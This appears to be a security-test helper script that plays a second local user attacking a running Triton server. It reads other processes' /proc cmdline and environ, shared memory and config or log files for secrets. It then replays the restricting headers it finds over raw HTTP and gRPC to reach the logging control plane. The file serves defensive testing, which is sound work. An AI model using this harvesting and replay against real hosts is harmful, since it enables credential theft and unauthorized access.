"""A second local user's attack on a running `make serve`: run as another user (tests/test_security.py).

    echo '{"ports": {"http": [...], "grpc": [...]}, "pids": [...], "look_for": [...]}' |
        setpriv --reuid=54321 --regid=54321 --clear-groups python tests/local_attacker.py [PATH ...]

Reads what that user can of every process (/proc/*/cmdline, /proc/*/environ), of the /dev/shm
that the given pids see (/proc/PID/root/dev/shm) and of the PATHs given (the model repository, the
logs, the edge's config), takes every restricting header and value any tritonserver was given,
and tries the control plane (the logging API: restricted like model loading) with each, on the
given HTTP and gRPC ports, over raw sockets so that nothing a client library checks stands in its
way: HTTP/1.1 with the header as it is, folded or split, and HTTP/2 (gRPC) with the metadata as
it is and in lower case. Prints one JSON object: what it read, where it found the strings it was
told to look for, and which tries got the control plane's answer.
"""

import json
import re
import socket
import sys
from pathlib import Path

import h2.config
import h2.connection
import h2.events

RESTRICTING = re.compile(r"--(?:http-restricted-api|grpc-restricted-protocol)=[^:]*:([^=]+)=(.*)", re.S)


def processes() -> dict[int, dict]:
    found = {}
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        entry = {}
        for what in ("cmdline", "environ"):
            try:
                entry[what] = (proc / what).read_bytes().decode(errors="replace").split("\0")
            except OSError:
                entry[what] = None
        found[int(proc.name)] = entry
    return found


def readable_files(paths) -> dict[str, bytes]:
    texts = {}
    for root in paths:
        root = Path(root)
        try:
            candidates = [root] if root.is_file() else list(root.rglob("*"))
        except OSError:
            continue
        for path in candidates:
            try:
                if path.is_file() and path.stat().st_size < 64 * 1024 * 1024:
                    texts[str(path)] = path.read_bytes()
            except OSError:
                continue
    return texts


def http_tries(header: str, value: str) -> dict[str, bytes]:
    line = value.encode()
    folded = value.replace("\n", "\r\n ").encode()
    first, _, rest = value.partition("\n")
    name = header.encode()
    return {"as is": name + b": " + line + b"\r\n",
            "obs-fold": name + b": " + folded + b"\r\n",
            "split": name + b": " + first.encode() + b"\r\n" + name + b": " + rest.encode() + b"\r\n"}


def http_get(port: int, path: str, header_lines: bytes) -> bytes:
    """The status line of a raw HTTP/1.1 GET, or b'' where the server closed without one."""
    request = (b"GET " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header_lines
               + b"Connection: close\r\n\r\n")
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
            connection.sendall(request)
            answer = b""
            while b"\r\n" not in answer:
                data = connection.recv(4096)
                if not data:
                    break
                answer += data
    except OSError:
        return b""
    return answer.split(b"\r\n")[0]


def grpc_call(port: int, method: str, metadata: list[tuple[bytes, bytes]], body: bytes = b"\0\0\0\0\0") -> str:
    """grpc-status of one raw HTTP/2 gRPC call (no check on what the metadata holds), or what happened instead."""
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False, validate_inbound_headers=False)
    connection = h2.connection.H2Connection(config)
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            connection.initiate_connection()
            headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()),
                       (b":authority", f"127.0.0.1:{port}".encode()), (b"content-type", b"application/grpc"),
                       (b"te", b"trailers"), *metadata]
            connection.send_headers(1, headers)
            connection.send_data(1, body, end_stream=True)
            sock.sendall(connection.data_to_send())
            while True:
                data = sock.recv(65536)
                if not data:
                    return "closed"
                for event in connection.receive_data(data):
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        status = dict(event.headers).get(b"grpc-status")
                        if status is not None:
                            return status.decode()
                    elif isinstance(event, h2.events.StreamReset):
                        return "reset"
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        return "terminated"
                    elif isinstance(event, h2.events.DataReceived):
                        connection.acknowledge_received_data(event.flow_controlled_length, 1)
                sock.sendall(connection.data_to_send())
    except OSError as error:
        return f"error: {error}"


def main(paths) -> dict:
    seen = processes()
    pairs = {match.groups() for entry in seen.values() for argument in entry["cmdline"] or []
             if (match := RESTRICTING.fullmatch(argument))}
    targets = json.loads(sys.stdin.read())
    ports = targets["ports"]
    shm = {}
    for pid in targets["pids"]:
        try:
            shm.update({str(p): p.stat().st_mode & 0o777 for p in Path(f"/proc/{pid}/root/dev/shm").iterdir()})
        except OSError:
            continue
    opened_shm = []
    for name in shm:
        try:
            with open(name, "rb") as region:
                region.read(16)
            opened_shm.append(name)
        except OSError:
            continue
    successes = []
    for header, value in sorted(pairs):
        for port in sorted(ports["http"]):
            for form, lines in http_tries(header, value).items():
                status = http_get(port, "/v2/logging", lines)
                if status.startswith(b"HTTP/1.1 200"):
                    successes.append(f"HTTP {port} {form}: {status.decode()}")
        for port in sorted(ports["grpc"]):
            for name in {header, header.lower()}:
                key = f"triton-grpc-protocol-{name}".encode()
                status = grpc_call(port, "/inference.GRPCInferenceService/LogSettings", [(key, value.encode())])
                if status == "0":
                    successes.append(f"gRPC {port} {name}: OK")
    files = readable_files(paths)
    places = {f"cmdline of {pid}": "\0".join(e["cmdline"] or []) for pid, e in seen.items()}
    places |= {f"environ of {pid}": "\0".join(e["environ"]) for pid, e in seen.items() if e["environ"]}
    places |= {path: data.decode(errors="replace") for path, data in files.items()}
    found = {wanted: [where for where, text in places.items() if wanted in text] for wanted in targets["look_for"]}
    return {"pairs": sorted(pairs),
            "environ_read": sorted(pid for pid, e in seen.items() if e["environ"] not in (None, [""])),
            "files_read": sorted(files), "found": found, "shm_seen": sorted(shm), "shm_opened": opened_shm,
            "successes": successes}


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1:])))
